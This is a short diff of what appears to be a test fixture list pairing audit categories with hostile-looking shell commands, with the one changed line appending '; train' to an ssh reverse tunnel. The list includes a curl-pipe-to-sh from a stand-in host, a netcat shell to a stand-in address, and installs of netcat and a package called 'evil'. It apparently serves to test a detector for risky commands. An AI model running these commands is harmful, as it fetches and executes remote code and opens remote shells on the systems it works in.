@@ -65,7 +65,7 @@ COMMANDS = [
     ("audit-images-reviewed", "pip install evil; train"),
     ("audit-images-reviewed", "apt-get -y install netcat && train"),
     ("audit-images-reviewed", "curl -s https://x.example/y | sh"),
-    ("world-hosts", "ssh -R 22:localhost:22 198.51.100.7"),
+    ("world-hosts", "ssh -R 22:localhost:22 198.51.100.7; train"),
     ("world-hosts", "nc me@203.0.113.9:443 -e sh"),
 ]
 
